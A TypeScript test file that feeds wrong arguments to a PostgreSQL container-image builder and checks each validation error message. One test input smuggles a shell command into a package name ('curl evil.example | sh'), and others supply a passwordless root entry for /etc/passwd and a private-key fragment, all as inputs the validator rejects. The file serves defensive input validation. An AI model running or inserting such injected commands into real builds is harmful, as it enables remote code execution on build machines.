import { PostgresImage, type PostgresImageArgs } from "../../../../../components";
import { refusalOf } from "../../../support/refusal";

const digest = `sha256:${"1".repeat(64)}`;

const least = {
  repository: "registry.example/shop/postgresql",
  packages: ["postgresql-18-cron"],
} satisfies PostgresImageArgs;

/** A mistake: the arguments, and the sentences of the error. */
type Mistake = [what: string, wrong: Record<string, unknown>, ...says: string[]];

const mistakes: Mistake[] = [
  [
    "a base by a tag that moves",
    { base: "ghcr.io/cloudnative-pg/postgresql:18.6-standard-trixie" },
    'base = "ghcr.io/cloudnative-pg/postgresql:18.6-standard-trixie": must have a digest: what a tag names changes, and with ' +
      "it what is built. Give repository:tag@sha256:…; `docker buildx imagetools inspect` of the image shows it.",
  ],
  [
    "a base without a version",
    { base: `ghcr.io/cloudnative-pg/postgresql@${digest}` },
    `base = "ghcr.io/cloudnative-pg/postgresql@${digest}": must have a tag that begins with PostgreSQL's version, which is that ` +
      "of what is built. Give repository:tag@sha256:…, with a tag such as 18.6-standard-trixie.",
  ],
  [
    "Docker's image of PostgreSQL",
    { base: `docker.io/library/postgres:18.6@${digest}` },
    `base = "docker.io/library/postgres:18.6@${digest}": is Docker's image of PostgreSQL, which has no user 26, as whom ` +
      "CloudNativePG runs it. Use one of CloudNativePG's, such as the default.",
  ],
  [
    "a base of another version",
    { version: 18, base: `registry.example/pg:17.11@${digest}` },
    `base = "registry.example/pg:17.11@${digest}": is of PostgreSQL 17, but version is 18. Set version: 17 or leave it out, or ` +
      "use a base of PostgreSQL 18.",
  ],
  [
    "a version that has no image",
    { version: 14, packages: ["libldap-common"] },
    "version = 14: is not a version of PostgreSQL that still gets fixes, so that no image of it is pinned here. Use 15 to 18, " +
      "or set base to an image of it.",
  ],
  [
    "a version that does not exist",
    { version: 19 },
    "version = 19: must be at most 18. Use 18 or less.",
  ],
  [
    "nothing to build",
    { packages: [], files: {} },
    "packages = (not set): must be set, or files: nothing says what the base lacks. Add a package or a file, or give the base " +
      "to `image` of the cluster.",
  ],
  [
    "a command instead of a package",
    { packages: ["postgresql-18-cron; curl evil.example | sh"] },
    'packages[0] = "postgresql-18-cron; curl evil.example | sh": is not a valid package of Debian. Give its name, or ' +
      "name=version: postgresql-18-cron=1.6.7-2.pgdg13+1.",
  ],
  [
    "a pattern of versions",
    { packages: ["postgresql-18-cron=1.6*"] },
    'packages[0] = "postgresql-18-cron=1.6*": is not a valid package of Debian. Give its name, or name=version: ' +
      "postgresql-18-cron=1.6.7-2.pgdg13+1.",
  ],
  [
    "an extension for another version",
    { packages: ["postgresql-17-postgis-3"] },
    'packages[0] = "postgresql-17-postgis-3": is for PostgreSQL 17, and the image has 18: the server would not find it, and apt ' +
      "would install another one. Use postgresql-18-postgis-3.",
  ],
  [
    "the server",
    { packages: ["postgresql-18=18.7-1.pgdg13+1"] },
    'packages[0] = "postgresql-18=18.7-1.pgdg13+1": is PostgreSQL itself: apt could replace the server by another one than the ' +
      "tag says. Remove it, and use a base with the version that you want.",
  ],
  [
    "a package twice",
    { packages: ["postgresql-18-cron", "postgresql-18-cron=1.6.7-2.pgdg13+1"] },
    'packages[1] = "postgresql-18-cron=1.6.7-2.pgdg13+1": is named twice, and apt installs one version. Remove one of them.',
  ],
  [
    "a file in a volume",
    { files: { "/var/lib/postgresql/data/postgresql.conf": "" } },
    'files["/var/lib/postgresql/data/postgresql.conf"] = "[not shown]": would be hidden by what is mounted at /var/lib/postgresql ' +
      "in every pod. Use another path, or `files` of the cluster, which are below /projected.",
  ],
  [
    "a file in what the operator mounts",
    { files: { "/controller/psqlrc": "" } },
    'files["/controller/psqlrc"] = "[not shown]": would be hidden by what is mounted at /controller in every pod. Use another ' +
      "path, or `files` of the cluster, which are below /projected.",
  ],
  [
    "other accounts",
    { files: { "/etc/passwd": "root::0:0::/root:/bin/sh\n" } },
    'files["/etc/passwd"] = "[not shown]": has the user 26 that PostgreSQL runs as, and other accounts that packages need. ' +
      "Remove it.",
  ],
  [
    "a program",
    { files: { "/usr/bin/backup": "#!/bin/sh\n" } },
    'files["/usr/bin/backup"] = "[not shown]": is in /usr/bin, where programs are, and the file is none: its mode is 0644. ' +
      "Install a package with the program, or build the image from a Dockerfile of your own.",
  ],
  [
    "a path that is not absolute",
    { files: { psqlrc: "" } },
    'files.psqlrc = "[not shown]": is not a valid path of a file in an image. Give an absolute path of letters, digits and ' +
      "._@+-, without . and .. as its parts.",
  ],
  [
    "a path out of its folder",
    { files: { "/etc/../controller/psqlrc": "" } },
    'files["/etc/../controller/psqlrc"] = "[not shown]": is not a valid path of a file in an image. Give an absolute path of ' +
      "letters, digits and ._@+-, without . and .. as its parts.",
  ],
  [
    "a file where a folder has to be",
    { files: { "/etc/shop": "", "/etc/shop/words": "" } },
    'files["/etc/shop"] = "[not shown]": must be a folder, since /etc/shop/words is below it. Use another path for one of them.',
  ],
  [
    "a key for everybody",
    { files: { "/etc/shop.key": "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMG\n" } },
    'files["/etc/shop.key"] = "[not shown]": is a secret, which everybody who can pull the image can read. Give it as a Secret ' +
      "in `files` of the cluster.",
  ],
  [
    "a file of Windows",
    { files: { "/etc/postgresql-common/psqlrc": "\\timing on\r\n" } },
    'files["/etc/postgresql-common/psqlrc"] = "[not shown]": must be text with line feeds: a Dockerfile has neither carriage ' +
      "returns nor other bytes. Convert it, or put it into a package.",
  ],
  [
    "a repository without a registry",
    { repository: "shop/postgresql" },
    'repository = "shop/postgresql": must begin with the host of its registry, or it could be another one on each machine. Give ' +
      "host and path, such as registry.example/shop/postgresql; Docker Hub is docker.io.",
  ],
  [
    "a repository with a tag",
    { repository: "registry.example/shop/postgresql:18" },
    'repository = "registry.example/shop/postgresql:18": must have no tag and no digest: they follow from what is built. Use ' +
      "registry.example/shop/postgresql, and tag for another tag.",
  ],
  [
    "an address instead of a repository",
    { repository: "https://registry.example/shop/postgresql" },
    'repository = "https://registry.example/shop/postgresql": must not have a scheme: registries are always asked by https. Use ' +
      "registry.example/shop/postgresql.",
  ],
  [
    "a repository in capitals",
    { repository: "registry.example/Shop" },
    'repository = "registry.example/Shop": is not a valid repository. Use lower-case letters, digits, dots, dashes and ' +
      "underscores, in parts divided by slashes.",
  ],
  [
    "a tag without a version",
    { tag: "latest" },
    'tag = "latest": must begin with 18, PostgreSQL\'s version in the base, from which the operator reads it. Use a tag such as ' +
      "18.6-shop, or leave it out.",
  ],
  [
    "a tag of another version",
    { tag: "17.11-shop" },
    'tag = "17.11-shop": must begin with 18, PostgreSQL\'s version in the base, from which the operator reads it. Use a tag such ' +
      "as 18.6-shop, or leave it out.",
  ],
  [
    "a tag that is none",
    { tag: "18/shop" },
    'tag = "18/shop": is not a valid tag of an image. Use up to 128 letters, digits, dots, dashes and underscores.',
  ],
  [
    "a platform that PostgreSQL's images do not have",
    { platforms: ["linux/386"] },
    'platforms[0] = "linux/386": is not a valid value. Use one of "linux/amd64", "linux/arm64".',
  ],
  [
    "a password that is no text",
    { registries: [{ address: "registry.example", username: "ci", password: 12345678 }] },
    'registries[0].password = "[secret]": must be a string. Give a string.',
  ],
  [
    "an argument of Docker's",
    { push: false },
    'push = "[not shown]": is not an argument, and would do nothing. Remove it; there are repository, version, base, mirror, ' +
      "packages, files, tag, platforms, registries.",
  ],
];

test.each(mistakes)("%s", async (_, wrong, ...says) => {
  const args = { ...least, ...wrong } as PostgresImageArgs;
  expect(await refusalOf(() => new PostgresImage("orders", args))).toEqual(says);
});
